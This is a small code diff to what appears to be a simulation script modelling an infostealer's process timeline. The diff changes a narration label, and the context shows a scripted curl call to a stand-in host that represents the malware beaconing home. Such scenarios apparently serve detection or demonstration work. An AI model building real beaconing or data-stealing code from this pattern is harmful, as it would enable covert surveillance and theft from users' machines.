@@ -252,7 +252,7 @@ def infostealer():
     r.exit(bash)
     r.at(BEACON_MS)
     r.given(after="payload", needs="network")
-    r.say("beacon")
+    r.say("calls home, and from now on every few seconds")
     curl = r.exec(r.fork(updater), "/usr/bin/curl", ["curl", "-s", "-m", "5", "https://cdn-telemetry.example/p?i=7f3a"],
                   cwd="/", signing="com.apple.curl")
     r.at(BEACON_MS + 700)
